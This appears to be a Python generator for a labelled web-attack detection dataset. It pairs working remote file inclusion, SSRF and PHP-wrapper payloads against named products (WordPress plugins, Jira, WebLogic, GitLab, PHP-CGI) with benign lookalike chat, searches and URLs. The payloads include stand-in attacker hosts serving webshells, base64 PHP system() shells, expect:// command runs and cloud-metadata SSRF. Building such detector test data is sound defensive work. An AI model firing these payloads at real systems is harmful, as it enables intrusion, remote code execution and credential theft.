    ("/wp-config.php~", RP()),
    ("/wp-config.old", RP()),
    ("/wp-config.php.swp", RP()),
    ("/configuration.php.old", RP()),            # Joomla
    ("/sites/default/settings.php.bak", RP()),   # Drupal
    ("/app/etc/env.php.bak", RP()),              # Magento 2
    ("/Web.config.old", RP()),                   # ASP.NET
    ("/backup.sql", RP()),
    ("/dump.sql", RP()),
    ("/wp-content/backup-db/wordpress.sql", RP()),
    ("/.env.bak", RP()),                         # Laravel
    ("/php.ini", RP()),
    ("/LocalSettings.php.bak", RP()),            # MediaWiki
    ("/config/database.yml.bak", RP()),          # Rails
    ("/application/configs/application.ini", RP()),   # Zend Framework 1
    ("/includes/config.php.bak", RP()),          # vBulletin
    ("/phpmyadmin/config.inc.php.bak", RP()),
    ("/admin/.htpasswd.old", RP()),
    ("../wp-config.php.bak", REVSLIDER),
    ("../../../../../../../../var/www/backup/site.sql", DUPLICATOR),
    ("../../../../../../../../etc/php/8.1/apache2/php.ini", LOCALIZE),
    ("../../../configuration.php.bak", EBOOK),
]

# ----------------------------------------------------------------------------------------------------------------
# Product targets of the remote file inclusion (and URL-fetching) exploits
# WordPress Social Warfare <= 3.5.2 swp_debug=load_options, swp_url fetched and eval'd (CVE-2019-9978)
SWP = Q("/wp-admin/admin-post.php?swp_debug=load_options", "swp_url")
# WordPress Gwolle Guestbook 1.5.3 captcha ajaxresponse.php abspath (RFI of abspath + wp-load.php)
GWOLLE = Q("/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php", "abspath")
# WordPress myGallery mygallerybrowser.php myPath (RFI)
MYGALLERY = Q("/wp-content/plugins/mygallery/myfunctions/mygallerybrowser.php", "myPath")
# WordPress wp-table wptable-button.php wpPATH (RFI)
WPTABLE = Q("/wp-content/plugins/wp-table/js/wptable-button.php", "wpPATH")
# WordPress WP Mobile Detector resize.php src, fetched and stored (2016 zero-day)
WPMOBILE = Q("/wp-content/plugins/wp-mobile-detector/resize.php", "src")
# Mambo / Joomla 1.0 components' mosConfig_absolute_path (many RFI advisories)
MAMBO_EXTCAL = Q("/components/com_extcalendar/extcalendar.php", "mosConfig_absolute_path")
MAMBO_REMOS = Q("/administrator/components/com_remository/admin.remository.php", "mosConfig_absolute_path")
# phpBB 2.x mods' phpbb_root_path (many RFI advisories)
PHPBB = Q("/includes/functions_portal.php", "phpbb_root_path")
# Gallery 1.x init.php GALLERY_BASEDIR (RFI)
GALLERY = Q("/gallery/init.php", "GALLERY_BASEDIR")
# DVWA and Mutillidae, the training apps' file inclusion pages
DVWA = Q("/vulnerabilities/fi/", "page")
MUTILLIDAE = Q("/mutillidae/index.php", "page")
# Jira OAuth icon-uri consumerUri fetch (CVE-2017-9506) and gadgets makeRequest (CVE-2019-8451)
JIRA_ICON = Q("/plugins/servlet/oauth/users/icon-uri", "consumerUri")
JIRA_GADGET = Q("/plugins/servlet/gadgets/makeRequest", "url")
# WebLogic UDDI Explorer operator fetch (CVE-2014-4210)
WEBLOGIC_UDDI = Q("/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=sdf&txtSearchkey=&"
                  "txtSearchfor=&selfor=Business+location&btnSubmit=Search", "operator")
# Zimbra ProxyServlet target (CVE-2019-9621)
ZIMBRA_PROXY = Q("/service/proxy", "target")
# WordPress oEmbed proxy and XML-RPC pingback.ping source URL
WP_OEMBED = Q("/wp-json/oembed/1.0/proxy", "url")
WP_PINGBACK = X("/xmlrpc.php", '<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params>'
                               '<param><value><string>{v}</string></value></param><param><value><string>'
                               'https://blog.example.org/?p=1</string></value></param></params></methodCall>')
# GitLab CI lint with include:remote, fetched by the server (CVE-2021-22214)
GITLAB_LINT = J("/api/v4/ci/lint", "content", [("include_merged_yaml", True)])
# GeoServer TestWfsPost url (SSRF)
GEOSERVER = Q("/geoserver/TestWfsPost", "url")

# --- rfi ---------------------------------------------------------------------------------------------------------
# The included URL's host is an IP address (dotted, decimal, hex, IPv6, with a port)
RFI_IP: list[Entry] = [
    ("http://203.0.113.66/payload.txt", SWP),
    ("http://198.51.100.14:8080/swp_options.txt", SWP),
    ("http://3405803842/p.txt", SWP),
    ("http://203.0.113.66/", GWOLLE),
    ("http://0xcb007142/", GWOLLE),
    ("http://192.0.2.44/r57.txt", MYGALLERY),
    ("http://192.0.2.44:8000/c99.txt", WPTABLE),
    ("http://203.0.113.9/tool.txt", MAMBO_EXTCAL),
    ("http://203.0.113.9/id.txt", MAMBO_REMOS),
    ("http://198.51.100.77/phpbb/shell.txt", PHPBB),
    ("http://198.51.100.77/gallery", GALLERY),
    ("-d allow_url_include=1 -d auto_prepend_file=http://203.0.113.66/shell.txt", PHPCGI),
    ("\xadd allow_url_include=1 \xadd auto_prepend_file=http://203.0.113.66/x.txt", PHPCGI_WIN),
    ("http://192.0.2.150/shell.txt", LOCALIZE),
    ("http://[2001:db8::66]/inc.txt", LOCALIZE),
    ("http://192.0.2.150:81/mm.txt", MAILMASTA),
    ("https://203.0.113.200/se.txt", SITEEDITOR),
    ("http://203.0.113.200/spritz.txt", SPRITZ),
    ("http://198.51.100.60/shell.php", WPMOBILE),
    ("https://198.51.100.5/cmd.vm", CONFLUENCE),
    ("http://127.0.0.1:8983/solr/admin/cores?action=STATUS", SOLR_DUMP),
    ("http://169.254.169.254/latest/meta-data/", JIRA_ICON),
    ("https://jira.corp.example@198.51.100.5/", JIRA_GADGET),
    ("http://127.0.0.1:7001/", WEBLOGIC_UDDI),
    ("http://127.0.0.1:7071/service/admin/soap", ZIMBRA_PROXY),
    ("http://192.168.1.1/", WP_OEMBED),
    ("http://10.0.0.1:22/", WP_PINGBACK),
    ("include:\n  remote: http://198.51.100.5/api/v1/targets?test.yml", GITLAB_LINT),
    ("http://203.0.113.66/m.json", METABASE),
    ("http://198.51.100.5/sample.json", DRUID),
    ("http://192.0.2.7:7778/", ORACLE_REPORTS),
    ("http://198.51.100.90/shell.txt", DVWA),
]
# A trailing ? (or ?? / ?& / ?x=) turns the suffix the application appends into a query string
RFI_QMARK: list[Entry] = [
    ("http://evil.example/swp.txt?", SWP),
    ("https://pastebin.com/raw/8sFsPq1W?", SWP),
    ("http://evil.example/?", GWOLLE),
    ("http://evil.example/gwolle/shell.txt?", GWOLLE),
    ("http://attacker.example/r57.txt?", MYGALLERY),
    ("http://attacker.example/c99.txt??", WPTABLE),
    ("http://evil.example/tool.txt?", MAMBO_EXTCAL),
    ("http://evil.example/id.txt?&", MAMBO_REMOS),
    ("http://www.badhost.example/phpbb.txt?", PHPBB),
    ("http://www.badhost.example/gallery.txt?x=", GALLERY),
    ("http://attacker.example/shell.txt?", LOCALIZE),
    ("http://attacker.example/inc/cmd.txt?", LOCALIZE),
    ("https://attacker.example/mm.txt?", MAILMASTA),
    ("http://c2.badhost.example/se.txt?", SITEEDITOR),
    ("http://c2.badhost.example/spritz.txt?", SPRITZ),
    ("http://evil.example/shell.txt?", DVWA),
    ("https://rentry.co/raw/xk3d9?", DVWA),
    ("http://evil.example/inc.txt?", MUTILLIDAE),
    ("http://evil.example/shell.php?", WPMOBILE),
    ("https://attacker.example/cmd.vm?", CONFLUENCE),
    ("-d allow_url_include=1 -d auto_prepend_file=http://evil.example/s.txt?", PHPCGI),
    ("http://evil.example/id.txt?cmd=id", DVWA),
    ("http://attacker.example/tool.txt??", MAMBO_EXTCAL),
    ("https://transfer.sh/Xk3d9/s.txt?", LOCALIZE),
    ("http://attacker.example/?", GWOLLE),
    ("http://attacker.example/phpbb/shell.txt?", PHPBB),
    ("https://raw.githubusercontent.com/attacker/kit/main/s.txt?", MAILMASTA),
    ("http://evil.example/r57.txt?", MYGALLERY),
    ("http://evil.example/c99.txt?", WPTABLE),
    ("http://evil.example:8080/se.txt?", SITEEDITOR),
    ("http://evil.example/spritz.txt?&lang=en", SPRITZ),
    ("http://evil.example/gallery?", GALLERY),
]
# The product's own include parameter, as `name=value` (page, file, path, template, include and the products'
# names: abspath, myPath, wpPATH, mosConfig_absolute_path, phpbb_root_path, GALLERY_BASEDIR, pl, ajax_path, src)
RFI_PARAM: list[Entry] = [
    ("swp_url=http://evil.example/payload.txt", QR("/wp-admin/admin-post.php?swp_debug=load_options")),
    ("abspath=http://evil.example/", QR("/wp-content/plugins/gwolle-gb/frontend/captcha/ajaxresponse.php")),
    ("myPath=http://evil.example/r57.txt", QR("/wp-content/plugins/mygallery/myfunctions/mygallerybrowser.php")),
    ("wpPATH=http://evil.example/c99.txt", QR("/wp-content/plugins/wp-table/js/wptable-button.php")),
    ("src=http://evil.example/shell.php", QR("/wp-content/plugins/wp-mobile-detector/resize.php")),
    ("mosConfig_absolute_path=http://evil.example/tool.txt", QR("/components/com_extcalendar/extcalendar.php")),
    ("mosConfig_absolute_path=http://203.0.113.9/id.txt",
     QR("/administrator/components/com_remository/admin.remository.php")),
    ("phpbb_root_path=http://evil.example/phpbb/", QR("/includes/functions_portal.php")),
    ("GALLERY_BASEDIR=http://evil.example/gallery/", QR("/gallery/init.php")),
    ("file=http://evil.example/shell.txt", QR("/wp-content/plugins/localize-my-post/ajax/include.php")),
    ("pl=http://evil.example/mm.txt", QR("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php")),
    ("ajax_path=http://evil.example/se.txt",
     QR("/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php")),
    ("url=http://evil.example/spritz.txt", QR("/wp-content/plugins/wp-with-spritz/wp.spritz.content.filter.php")),
    ("page=http://evil.example/shell.txt", QR("/vulnerabilities/fi/")),
    ("page=https://pastebin.com/raw/Qz7wLm2x", QR("/vulnerabilities/fi/")),
    ("page=http://198.51.100.90/inc.txt", QR("/mutillidae/index.php")),
    ("language=http://evil.example/lang.txt", QR("/bWAPP/rlfi.php")),   # bWAPP remote file inclusion page
    ("include=http://evil.example/inc.php", QR("/index.php")),
    ("template=http://evil.example/tpl.txt", QR("/index.php")),
    ("path=http://evil.example/shell.txt", QR("/modules/mod_main.php")),
    ("file=ftp://evil.example/pub/shell.txt", QR("/index.php")),
    ("inc=http://evil.example/c.txt", QR("/index.php")),
    ("dir=http://evil.example/", QR("/includes/header.php")),
    ("lib=http://evil.example/lib/", QR("/lib/init.php")),
    ("root_path=http://evil.example/", QR("/common.php")),
    ("base_path=http://evil.example/", QR("/install/index.php")),
    ("module=http://evil.example/m.txt", QR("/index.php")),
    ("content=http://evil.example/body.txt", QR("/show.php")),
    ("doc=http://evil.example/doc.txt", QR("/docs/view.php")),
    ("load=http://evil.example/l.txt", QR("/loader.php")),
    ("cat=http://evil.example/cat.txt", QR("/category.php")),
    ("show=http://evil.example/s.txt", QR("/index.php")),
    ("view=http://evil.example/v.txt", QR("/index.php")),
]
# Off-domain references: a URL on a host that is not the site (attacker hosts, paste sites, raw file hosts,
# protocol-relative, credentials in the URL, upper case, a fragment or NUL cutting the suffix)
RFI_OFFDOMAIN: list[Entry] = [
    ("https://pastebin.com/raw/8sFsPq1W", SWP),
    ("http://evil.example/swp/payload.txt", SWP),
    ("https://evil.example/", GWOLLE),
    ("http://evil.example/wp/", GWOLLE),
    ("http://attacker.example/r57.txt", MYGALLERY),
    ("http://attacker.example/c99.txt", WPTABLE),
    ("http://attacker.example/tool.txt", MAMBO_EXTCAL),
    ("http://attacker.example/id.txt", MAMBO_REMOS),
    ("http://attacker.example/phpbb/", PHPBB),
    ("http://attacker.example/gallery", GALLERY),
    ("https://raw.githubusercontent.com/attacker/kit/main/shell.txt", LOCALIZE),
    ("//evil.example/x.txt", LOCALIZE),
    ("HTTP://EVIL.EXAMPLE/SHELL.TXT", LOCALIZE),
    ("http://evil.example/shell.txt%00", MAILMASTA),
    ("https://user:pass@evil.example/x.txt", MAILMASTA),
    ("http://evil.example/se.txt#", SITEEDITOR),
    ("http://evil.example:8080/x.txt", SITEEDITOR),
    ("https://transfer.sh/Xk3d9/spritz.txt", SPRITZ),
    ("http://evil.example/x.txt#.php", SPRITZ),
    ("https://attacker.example/cmd.vm", CONFLUENCE),
    ("https://evil.example/m.json", METABASE),
    ("https://oast.example/druid.json", DRUID),
    ("http://burpcollaborator.example/", JIRA_ICON),
    ("https://evil.example/gadget.xml", JIRA_GADGET),
    ("http://evil.example/uddi", WEBLOGIC_UDDI),
    ("https://evil.example/oembed", WP_OEMBED),
    ("http://evil.example/pingback-target", WP_PINGBACK),
    ("include:\n  remote: https://evil.example/ci.yml", GITLAB_LINT),
    ("http://evil.example/wfs", GEOSERVER),
    ("https://rentry.co/raw/xk3d9", DVWA),
    ("http://evil.example/shell.png", WPMOBILE),
    ("http://attacker.example/inc.txt", MUTILLIDAE),
]
# Other protocols: ftp(s)://, smb://, UNC \\host\share (and WebDAV over UNC), data:, expect://, ssh2.exec://,
# jar:, compress.zlib:// wrapping http, file:// to a UNC share
RFI_PROTOCOLS: list[Entry] = [
    ("ftp://anonymous:anonymous@198.51.100.5/pub/shell.txt", LOCALIZE),
    ("ftp://evil.example/r57.txt", MYGALLERY),
    ("ftp://198.51.100.5:2121/cmd.vm", CONFLUENCE),
    ("ftps://evil.example/x.txt", SPRITZ),
    ("ftp://evil.example/pub/c99.txt", WPTABLE),
    ("ftp://evil.example/tool.txt", MAMBO_EXTCAL),
    ("ftp://198.51.100.5/gallery/", GALLERY),
    ("smb://198.51.100.5/share/shell.php", MAILMASTA),
    ("smb://evil.example/public/payload.txt", DVWA),
    ("\\\\198.51.100.5\\share\\shell.php", MAILMASTA),
    ("\\\\evil.example\\DavWWWRoot\\s.php", LOCALIZE),
    ("\\\\evil.example@SSL\\webdav\\x.php", SITEEDITOR),
    ("\\\\198.51.100.5@80\\dav\\shell.txt", EBOOK),
    ("\\\\evil.example\\share\\", GWOLLE),
    ("file://\\\\198.51.100.5\\share\\x.php", SPRITZ),
    ("data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"), SITEEDITOR),
    ("data:text/plain,<?php phpinfo();?>", MAILMASTA),
    ("data://text/plain,<?php echo shell_exec('id'); ?>", LOCALIZE),
    ("-d allow_url_include=1 -d auto_prepend_file=data://text/plain;base64," + _b64("<?php system('id');"),
     PHPCGI),
    ("data:;base64," + _b64("<?php passthru($_REQUEST[1]);"), DVWA),
    ("expect://id", LOCALIZE),
    ("expect://ls -la", SPRITZ),
    ("expect://cat /etc/passwd", MAILMASTA),
    ("ssh2.exec://root:toor@198.51.100.5:22/id", AAM),
    ("jar:http://198.51.100.5/x.jar!/cmd.vm", CONFLUENCE),
    ("compress.zlib://http://evil.example/x.txt", SITEEDITOR),
    ("ftp://evil.example/m.json", METABASE),
    ("ftp://198.51.100.5/sample.json", DRUID),
    ("ftp://evil.example/swp.txt", SWP),
    ("smb://198.51.100.5/c$/x.txt", WPMOBILE),
    ("ftp://evil.example/phpbb/", PHPBB),
    ("ftp://evil.example/inc.txt", MUTILLIDAE),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("rce", "unix-command-injection", RCE_SEPARATORS),
    ("rce", "unix-shell-expression-evasion", RCE_EVASION),
    ("rce", "windows-cmd-injection", RCE_WINDOWS),
    ("rce", "powershell", RCE_POWERSHELL),
    ("rce", "unix-command-names-with-paths", RCE_PATHS),
    ("rce", "reverse-shells", RCE_REVERSE),
    ("rce", "shellshock", RCE_SHELLSHOCK),
    ("rce", "downloaders", RCE_DOWNLOADERS),
    ("rce", "file-write-via-shell", RCE_FILE_WRITE),
    ("rce", "restricted-file-names-in-commands", RCE_RESTRICTED),
    ("lfi", "path-traversal", LFI_TRAVERSAL),
    ("lfi", "os-file-access", LFI_OS_FILES),
    ("lfi", "absolute-paths", LFI_ABSOLUTE),
    ("lfi", "null-byte-truncation", LFI_NULLBYTE),
    ("lfi", "php-wrapper-lfi", LFI_PHP_WRAPPERS),
    ("lfi", "log-poisoning-targets", LFI_LOG_POISONING),
    ("lfi", "restricted-file-extensions", LFI_RESTRICTED_EXT),
    ("rfi", "url-with-ip-address", RFI_IP),
    ("rfi", "url-with-trailing-question-mark", RFI_QMARK),
    ("rfi", "include-parameter-with-url", RFI_PARAM),
    ("rfi", "off-domain-reference", RFI_OFFDOMAIN),
    ("rfi", "protocols", RFI_PROTOCOLS),
]
# `name=value` payloads go unquoted; shellshock strings go where CGI turns them into environment variables
RAW_KV_SUBS = {"include-parameter-with-url"}
SUB_CYCLES = {"include-parameter-with-url": ["param-name", "form"],
              "shellshock": ["header:User-Agent", "header:Referer", "cookie", "header:X-Api-Version", "query"]}

# ----------------------------------------------------------------------------------------------------------------
# Placements
REAL_NAMES = ["q", "file", "name", "page", "url", "path", "data", "template", "message", "cmd", "host"]


def _latin(value: str) -> bool:
    """A payload written in single bytes above ASCII (the soft hyphen of CVE-2024-4577) goes out as those bytes."""
    return all(ord(ch) < 256 for ch in value) and any(ord(ch) >= 128 for ch in value)


class _Set(BlindSet):
    """Our routes; the regression-suite copy is the product's own exploit request (_rs)."""

    prefix = NAME
    kv_safe = "=&[]._-:/'*$!(),;{}~@?"
    form_accept = "*/*"
    xml_places = ("xml",)
    xml_controls = "\t\n\r"

    def enc(self, value: str, latin: bool = False, safe: str = "") -> str:
        return super().enc(value, _latin(value), safe)   # every carrier sends such a payload's bytes


SET = _Set()


def _nest(pairs: list[tuple[str, Any]]) -> dict[str, Any]:
    """Dotted keys to a nested JSON document (a trailing [] appends to a list)."""
    doc: dict[str, Any] = {}
    for key, value in pairs:
        *parents, last = key.split(".")
        node = doc
        for part in parents:
            node = node.setdefault(part, {})
        if last.endswith("[]"):
            node.setdefault(last[:-2], []).append(value)
        else:
            node[last] = value
    return doc


def _rs(t: T, v: str) -> tuple[str, dict[str, Any]]:
    """The product's own request, as its exploit sends it."""
    h = dict(t.headers)
    ctype = h.pop("Content-Type", "")
    method = t.method or "GET"
    fixed = urllib.parse.urlencode([(k, str(x)) for k, x in t.fields])
    if t.place == "rs-query":
        if t.name:
            sep = "&" if "?" in t.path else "?"
            uri = t.path + sep + (fixed + "&" if fixed else "") + t.name + "=" + SET.enc(v)
        else:
            sep = "" if t.path.endswith(("=", "?", "&")) else ("&" if "?" in t.path else "?")
            raw = v.encode("latin-1") if _latin(v) else v.encode()
            uri = t.path + sep + urllib.parse.quote_plus(raw, safe="&:/")
        return t.place, request(method, uri, "", ctype, **h)
    if t.place == "rs-form":
        body = (fixed + "&" if fixed else "") + t.name + "=" + SET.enc(v)
        return t.place, request(method, t.path, body, ctype or FORM, **h)
    if t.place == "rs-json":
        body = json.dumps(_nest([*t.fields, (t.name, v)]))
        return t.place, request(method, t.path, body, ctype or "application/json", **h)
    if t.place == "rs-xml":
        return t.place, request(method, t.path, t.tpl.replace("{v}", xml_escape(v)), ctype or "text/xml", **h)
    if t.place == "rs-rawpath":
        uri = t.path.replace("§", v) if "§" in t.path else t.path + v
        return t.place, request(method, uri, t.tpl, ctype, **h)
    if t.place == "rs-path":
        return t.place, request(method, t.path.replace("§", SET.enc(v, safe=t.name)), "", ctype, **h)
    if t.place == "rs-raw-body":
        body = t.tpl.replace("{v}", v) if t.tpl else v
        return t.place, request("POST", t.path, body, ctype, **h)
    if t.place == "rs-header":
        return "rs-header:" + t.name, request(method, t.path, t.tpl, ctype, **{**h, t.name: v})
    if t.place == "rs-cookie":
        return t.place, request(method, t.path, "", ctype, Cookie=t.name + "=" + SET.enc(v, safe=COOKIE_SAFE), **h)
    if t.place == "rs-multipart-filename":
        return t.place, request("POST", t.path, SET.multipart([(t.name, t.tpl, v)]), SET.multipart_type, **h)
    if t.place == "rs-multipart-content":
        return t.place, request("POST", t.path, SET.multipart([(t.name, v, t.tpl)]), SET.multipart_type, **h)
    if t.place == "rs-query-raw":
        sep = "&" if "?" in t.path else "?"
        return t.place, request(method, t.path + sep + SET.enc(v, safe=SET.kv_safe), "", ctype, **h)
    raise ValueError(t.place)


def _check(t: T, v: str) -> None:
    """An exploit shape that cannot carry its payload is a bug in this file."""
    if t.place in ("rs-rawpath", "rs-header", "rs-cookie") and not header_safe(v):
        raise ValueError(f"{t.place} cannot carry {v!r}")
    if t.place == "rs-xml" and not SET.fits("xml", v):
        raise ValueError(f"XML cannot carry {v!r}")


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    seen: set[str] = set()
    for s, (category, sub, entries) in enumerate(FAMILIES):
        cycle = SUB_CYCLES.get(sub, SET.real_cycle)
        for i, (payload, target) in enumerate(entries):
            if payload in seen:
                raise ValueError(f"duplicate payload {payload!r}")
            seen.add(payload)
            _check(target, payload)
            real_place = SET.cycled(cycle, i + s, payload, SET.fallback, i)
            name = REAL_NAMES[(i + s) % len(REAL_NAMES)]
            rs_place, rs_rec = _rs(target, payload)
            real_rec = SET.real(real_place, name, payload, raw=sub in RAW_KV_SUBS)
            for place, rec in ((real_place, real_rec), (rs_place, rs_rec)):
                n += 1
                yield SET.record(rec, n, category, sub, place, payload)


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same product names, advisories, commands, file names and URLs, typed innocently (Slack chat and
# bios, searches, admin notes, links, profiles, uploads, ordinary headers)
CHAT = [
    # patching and advisories
    "Grafana 8.3.1 is out with the plugin path traversal fix, upgrading the monitoring VM this afternoon",
    "did anyone patch the Confluence wiki yet? the advisory says 7.18.1 or later",
    "reminder: Jira maintenance window Saturday 02:00-04:00 UTC, the service desk is read-only",
    "who owns the Cacti box? the poller has been failing since Tuesday and the graphs are flat",
    "F5 support confirmed the iControl REST fix is in 16.1.2.2, change request is CR-2291",
    "the Citrix ADC mitigation from the advisory is applied on both HA nodes",
    "FortiGate firmware 7.2.5 is staged, the reboot needs approval from networking",
    "the Pulse Secure appliance gets replaced by the new VPN in June, until then keep it patched",
    "phpMyAdmin is only reachable through the bastion now, please don't open it to the internet again",
    "the WordPress 6.5 update broke Slider Revolution on the marketing site, rolled back the plugin",
    "Duplicator backup of the blog finished, 1.2 GB, it's in the S3 bucket",
    "Tomcat 9.0.88 is on all app servers, rolling restart done",
    "WebLogic April CPU applied in staging, prod next Tuesday",
    "Solr reindex of the products core takes about 40 minutes",
    "Elasticsearch went yellow after the node restart, shards are recovering",
    "Kibana dashboards for the edge logs are in the Observability space",
    "Drupal 10.2.6 security release is out, updating the docs site tonight",
    "the club's Joomla site got the 4.4.3 update, no issues",
    "Magento 2.4.7 needs PHP 8.3, the shop upgrade is blocked on the hosting plan",
    "Exchange CU14 installed, OWA is back, sorry for the outage",
    "the SharePoint migration to Online is about 60% done",
    "the vBulletin forum is read-only until we finish the move to Discourse",
    "the vendor's admin panel runs ThinkPHP, we asked them which version",
    "Spring Boot 3.2 upgrade merged, thanks for the reviews",
    "the last Struts app is finally retired",
    "Jenkins agent on build-03 lost its connection again, restarted the service",
    "GitLab 16.11 upgrade scheduled for Sunday morning",
    "the new base image ships Apache httpd 2.4.59",
    "JBoss EAP 7.4 support ends soon, we need a plan for WildFly or Quarkus",
    "Webmin on the old file server is disabled now, use ssh",
    "the Hikvision cameras in the warehouse got the new firmware",
    "the TP-Link router in the meeting room needs a factory reset, it lost the config",
    "the branch office Zyxel firewall was patched by the ISP last night",
    "the Netgear switch firmware update bricked port 12, RMA filed",
    "Nagios keeps alerting on disk space for db-02, it's at 91%",
    "the Zabbix agent on the Windows hosts needs the new PSK",
    "PRTG sensor for the printer is paused while it's being repaired",
    "SaltStack highstate failed on two minions, looks like a pillar typo",
    "Airflow DAG for the nightly export is back to green",
    "the Laravel app logs to storage/logs/laravel.log, please rotate it daily",
    "APP_DEBUG=false in the production .env please, it was true on staging",
    "Laravel Ignition is dev-only now, composer install --no-dev on prod",
    # commands and files, as engineers type them
    "to follow the access log on the edge box: tail -f /var/log/nginx/access.log",
    "the cron job writes to /var/log/app/cron.log, check there first",
    "sudo systemctl restart php8.2-fpm fixed the 502s",
    "please don't paste the contents of /etc/passwd in public channels, even from a test VM",
    "the docs say: download get-docker.sh with curl, read it, then run it; no piping into sh",
    "wget https://github.com/prometheus/node_exporter/releases/download/v1.8.0/node_exporter-1.8.0.linux-amd64.tar.gz",
    "on Windows run ipconfig /all and send me the output",
    "Get-Service | Where-Object {$_.Status -eq 'Running'} lists what is running",
    "use Set-ExecutionPolicy RemoteSigned -Scope CurrentUser for the onboarding script",
    "your ssh key should be ~/.ssh/id_ed25519, the old id_rsa is not accepted anymore",
    "web.config transforms are applied in the release pipeline, don't edit it on the server",
    "the .htaccess redirect for /blog works now",
    "add .env to .gitignore please, it got committed in the demo repo",
    "the .git folder is excluded from the docker image by .dockerignore",
    "restored the staging database from backup.sql dated Monday",
    "config.ini.example is the template, copy it to config.ini",
    "the win.ini question came from the legacy installer, you can ignore it",
    "map the share as \\\\fileserver\\marketing on Windows",
    "smb://nas.local/photos works from the Mac",
    "php.ini memory_limit raised to 512M for the import",
    "the bash scripts need set -euo pipefail at the top",
    "Shellshock was 2014, bash on these boxes is 5.2",
    "the include directive in nginx.conf loads conf.d/*.conf",
    "template=invoice in the export URL picks the invoice layout",
    "page=2 in the search results works again after the fix",
    "nc -zv db.internal 5432 says the port is open, so it's not the firewall",
    "python3 -m http.server 8000 is fine for sharing the build on your laptop",
    "socat is on the jump host for the port forward to the lab",
    "the service log on the Windows servers is C:\\ProgramData\\Acme\\logs\\service.log",
    "the SQL Server backup ends in .bak, restore it with SSMS",
    "release notes 2.14: fixed a path traversal in the export endpoint reported by our pentest vendor",
    "the bug bounty report about a file include turned out to be a duplicate of #412",
    "FTP for the printer vendor is ftp.vendor.example, they send the drivers there",
]
SEARCHES = [
    "grafana", "confluence upgrade", "jira service desk", "cacti", "webmin", "f5 big-ip", "citrix workspace",
    "fortinet", "pulse secure", "wordpress", "slider revolution", "duplicator", "phpmyadmin", "joomla", "drupal",
    "magento", "laravel", "thinkphp", "spring boot", "tomcat", "weblogic", "jboss", "solr", "elasticsearch",
    "kibana", "nagios", "hikvision", "tp-link", "zyxel", "netgear", "bash", "powershell", "cmd", "win.ini",
    "web.config", "htaccess", "env file", "backup.sql", "ssh key", "curl", "wget", "include", "template",
    "path traversal", "shellshock", "reverse proxy", "ftp", "smb share", "access log", "exchange online",
]
URLS = [
    "https://grafana.com/blog/2021/12/07/grafana-8.3.1-8.2.7-8.1.8-and-8.0.7-released-with-high-severity-security-fix/",
    "https://nvd.nist.gov/vuln/detail/CVE-2021-43798",
    "https://nvd.nist.gov/vuln/detail/CVE-2014-6271",
    "https://confluence.atlassian.com/doc/confluence-security-advisory-2022-06-02-1130377146.html",
    "https://httpd.apache.org/security/vulnerabilities_24.html",
    "https://tomcat.apache.org/security-9.html",
    "https://www.cisa.gov/known-exploited-vulnerabilities-catalog",
    "https://my.f5.com/manage/s/article/K23605346",
    "https://support.citrix.com/article/CTX267027",
    "https://www.fortiguard.com/psirt",
    "https://wordpress.org/plugins/duplicator/",
    "https://docs.phpmyadmin.net/en/latest/config.html",
    "https://www.drupal.org/sa-core-2018-002",
    "https://developer.joomla.org/security-centre.html",
    "https://laravel.com/docs/11.x/configuration#environment-configuration",
    "https://www.php.net/manual/en/function.include.php",
    "https://www.php.net/manual/en/wrappers.php",
    "https://owasp.org/www-community/attacks/Path_Traversal",
    "https://cwe.mitre.org/data/definitions/22.html",
    "https://cwe.mitre.org/data/definitions/78.html",
    "https://cwe.mitre.org/data/definitions/98.html",
    "https://learn.microsoft.com/en-us/powershell/module/microsoft.powershell.security/set-executionpolicy",
    "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/cmd",
    "https://www.gnu.org/software/bash/manual/bash.html#Shell-Expansions",
    "https://solr.apache.org/guide/solr/latest/deployment-guide/securing-solr.html",
    "https://www.elastic.co/guide/en/kibana/current/upgrade.html",
    "https://www.zyxel.com/global/en/support/security-advisories",
    "https://httpd.apache.org/docs/2.4/howto/htaccess.html",
    "https://git-scm.com/docs/gitignore",
    "https://docs.nginx.com/nginx/admin-guide/monitoring/logging/",
]
PROSE = [
    "Customer asks whether our gateway is affected by CVE-2021-41773. We do not run Apache httpd at the edge.",
    "Pentest report section 4.2: path traversal in the export endpoint, fixed in release 2.14.",
    "Vendor questionnaire: do you run Confluence, Jira or Bitbucket on premises? Answer: cloud only.",
    "Please upgrade the Grafana instance before the audit; the old version is listed in the scan.",
    "The Windows build agents run PowerShell 7.4; the scripts are signed.",
    "Escalated ticket: user cannot open the shared drive \\\\fileserver\\finance from home.",
    "The monthly report includes the access log summary from nginx.",
    "Action items: rotate the ssh keys, remove id_rsa keys older than 2019, enable MFA for Webmin admins.",
    "Backups: nightly database dump (backup.sql.gz) kept 30 days.",
    "The old phpMyAdmin install was removed from the shared hosting account.",
    "WordPress plugins to review: Duplicator, Slider Revolution, Mail Masta (abandoned).",
    "Shellshock and Heartbleed slides for the security awareness session are in the drive.",
    "Customer's router model: TP-Link Archer AX21, firmware 1.1.4; advised to update.",
    "Netgear R7000 at the branch office should be replaced, it is end of life.",
    "The Hikvision NVR password was reset by the installer.",
    "Zabbix template for Windows hosts updated with the new service checks.",
    "The ThinkPHP admin panel from the supplier will be retired in Q4.",
    "The file include bug in the legacy CMS was fixed by removing the page parameter.",
    "Reminder: the curl | sh install method is not allowed on production hosts.",
    "Legal asked for the list of CVEs we patched in March.",
    "The web.config for the IIS site is in the release artifact, not in git.",
    "The .env file for staging is in the password manager, not in Slack.",
    "Jenkins credentials were rotated after the contractor left.",
    "Spring Cloud Config server moved behind the VPN.",
    "The Citrix Workspace client needs version 2311 or newer.",
    "Exchange mailbox export request for the departing employee is approved by HR.",
    "The Solr admin UI is only bound to localhost now.",
    "The PRTG notification for disk space goes to the ops mailbox.",
    "The FTP server for the scanners is being replaced with SFTP.",
    "Data migration for the Magento catalog is planned for the weekend.",
]
PROFILES = [
    ("Jenkins Family Dental", "12 Apache Trail, Tucson, AZ"),
    ("Solr Energy Ltd", "4 Sunny Rd, Brighton"),
